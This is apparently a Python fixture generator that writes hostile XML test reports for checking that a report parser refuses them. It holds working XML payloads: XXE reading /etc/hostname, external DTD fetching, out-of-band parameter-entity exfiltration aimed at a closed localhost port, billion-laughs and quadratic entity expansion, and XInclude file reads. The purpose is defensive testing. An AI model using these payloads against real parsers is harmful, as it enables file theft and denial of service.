#!/usr/bin/env python3
"""Writes the hostile samples into resources/reports/hostile/ (hand-written).

A safe parser must refuse or neutralise every one of these: no DTD processing,
no external entity / DTD fetching, no entity expansion. Network targets point at
127.0.0.1 port 1 (closed) so that even a vulnerable parser only fails locally.
"""
import os
import sys

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "resources", "reports", "hostile")


def write(name, data):
    data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as fh:
        fh.write(data)
    print(f"{name}: {len(data)} bytes")


SUITE_OPEN = '<testsuite name="hostile" tests="1" failures="1" errors="0" skipped="0">\n'

XXE_FILE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
            + SUITE_OPEN +
            '  <testcase classname="hostile.Xxe" name="reads /etc/hostname" time="0.001">\n'
            '    <failure message="see body" type="XXE">leaked: &xxe;</failure>\n'
            '  </testcase>\n'
            '</testsuite>\n')

EXTERNAL_DTD = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<!DOCTYPE testsuite SYSTEM "http://127.0.0.1:1/evil.dtd">\n'
                + SUITE_OPEN +
                '  <testcase classname="hostile.ExternalDtd" name="external DTD is fetched" time="0.001">\n'
                '    <failure message="external dtd">if you can read this, the DTD was at least not required</failure>\n'
                '  </testcase>\n'
                '</testsuite>\n')

PARAMETER_ENTITY = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                    '<!DOCTYPE testsuite [\n'
                    '  <!-- classic out-of-band XXE: evil.dtd would declare\n'
                    '       <!ENTITY % wrapper "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:1/?leak=%file;\'>"> %wrapper; -->\n'
                    '  <!ENTITY % file SYSTEM "file:///etc/hostname">\n'
                    '  <!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd">\n'
                    '  %remote;\n'
                    '  %exfil;\n'
                    ']>\n'
                    + SUITE_OPEN +
                    '  <testcase classname="hostile.ParameterEntity" name="out-of-band exfiltration" time="0.001">\n'
                    '    <failure message="parameter entity">parameter-entity XXE</failure>\n'
                    '  </testcase>\n'
                    '</testsuite>\n')

BILLION_LAUGHS = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                  '<!DOCTYPE lolz [\n'
                  '  <!ENTITY lol "lol">\n'
                  + "".join('  <!ENTITY lol%d "%s">\n' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
                            for i in range(1, 10)) +
                  ']>\n'
                  + SUITE_OPEN +
                  '  <testcase classname="hostile.BillionLaughs" name="&lol9;" time="0.001">\n'
                  '    <failure message="&lol9;">&lol9;</failure>\n'
                  '  </testcase>\n'
                  '</testsuite>\n')


def quadratic():
    # One ~40 KB internal entity referenced 35,000 times: file ~180 KB, expansion ~1.4 GB.
    big = "A" * 40_000
    refs = "&a;" * 35_000
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE testsuite [<!ENTITY a "' + big + '">]>\n'
            + SUITE_OPEN +
            '  <testcase classname="hostile.Quadratic" name="quadratic blowup" time="0.001">\n'
            '    <failure message="quadratic">' + refs + '</failure>\n'
            '  </testcase>\n'
            '</testsuite>\n')


XINCLUDE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<testsuite xmlns:xi="http://www.w3.org/2001/XInclude" name="hostile" tests="1" failures="1" errors="0" skipped="0">\n'
            '  <testcase classname="hostile.XInclude" name="xinclude of /etc/hostname" time="0.001">\n'
            '    <failure message="xinclude"><xi:include href="file:///etc/hostname" parse="text"/></failure>\n'
            '  </testcase>\n'
            '</testsuite>\n')

XXE_ATTRIBUTE_INTERNAL = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                          '<!DOCTYPE testsuite [<!ENTITY inj "injected-by-an-internal-entity">]>\n'
                          + SUITE_OPEN +
                          '  <testcase classname="hostile.InternalEntity" name="&inj;" time="0.001">\n'
                          '    <failure message="&inj;">internal entity in attribute and text: &inj;</failure>\n'
                          '  </testcase>\n'
                          '</testsuite>\n')


def main():
    os.makedirs(OUT, exist_ok=True)
    write("xxe-file.xml", XXE_FILE)
    write("external-dtd.xml", EXTERNAL_DTD)
    write("xxe-parameter-entity.xml", PARAMETER_ENTITY)
    write("billion-laughs.xml", BILLION_LAUGHS)
    q = quadratic()
    assert len(q) < 200_000, len(q)
    write("quadratic-blowup.xml", q)
    write("xinclude.xml", XINCLUDE)
    write("internal-entity.xml", XXE_ATTRIBUTE_INTERNAL)
    return 0


if __name__ == "__main__":
    sys.exit(main())
